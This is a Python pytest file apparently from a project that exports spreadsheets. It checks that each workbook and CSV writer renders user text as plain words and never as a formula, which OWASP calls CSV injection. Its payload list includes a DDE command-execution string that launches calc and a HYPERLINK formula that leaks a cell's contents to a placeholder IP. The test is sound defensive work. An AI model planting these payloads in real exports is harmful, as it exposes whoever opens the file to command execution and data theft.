"""What leaves as a table is words and numbers: a name that begins with "=" is not run on the reader's computer.

OWASP calls it CSV injection. Whoever writes a workbook stands in the list below; another writer fails the test.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from husheng.foundation.documents import xlsx
from husheng.foundation.documents.paper import Cell, Paper, Paragraph, SignatureLine, Signed, Table
from husheng.intake.leads import exports

SOURCES = Path(__file__).resolve().parent.parent / "src" / "husheng"
WRITER = re.compile(r"\bWorkbook\(|csv\.(?:Dict)?[wW]riter\(")
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.1/?leak="&A1,"点")',
    "＝1+1",
    "'=1+1",
    '";=1+1',
)


def paper(words: str) -> bytes:
    table = Table(rows=((Cell(words), Cell(words)), (Cell(words), Cell(words))))
    sections = (Paragraph(words), table, SignatureLine(((words, words),)), Signed(words, words))
    return xlsx.render(Paper(title=words, number=words, label=words, mark=words, sections=sections))


def listed(words: str) -> bytes:
    return bytes(exports.workbook("表", [words], [[words, words]]).content)


WRITERS: dict[str, Callable[[str], bytes]] = {
    "foundation/documents/xlsx.py": paper,
    "intake/leads/exports.py": listed,
}
ELSEWHERE = {
    "intake/leads/hotline/sample.py": "synthetic hotline files for the demo and the tests, from our own words",
}


def writers() -> Iterator[str]:
    for path in sorted(SOURCES.rglob("*.py")):
        if "tests" not in path.parts and WRITER.search(path.read_text(encoding="utf-8")):
            text = path.read_text(encoding="utf-8")
            if "openpyxl import Workbook" in text or "import csv" in text:
                yield path.relative_to(SOURCES).as_posix()


def formulas(body: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        cell.coordinate for row in book.worksheets[0].iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_everybody_who_writes_a_table_is_known() -> None:
    assert set(writers()) == WRITERS.keys() | ELSEWHERE.keys()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_words_become_a_formula(writer: str, payload: str) -> None:
    body = WRITERS[writer](payload)
    assert formulas(body) == []
    assert any(payload.strip() in str(cell.value) for cell in _cells(body) if cell.value), (
        "the words are there"
    )


def test_the_check_finds_a_formula() -> None:
    book = openpyxl.Workbook()
    book.worksheets[0].append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    assert formulas(out.getvalue()) == ["A1"]


def _cells(body: bytes) -> Iterator[openpyxl.cell.Cell]:
    for row in openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].iter_rows():
        yield from row
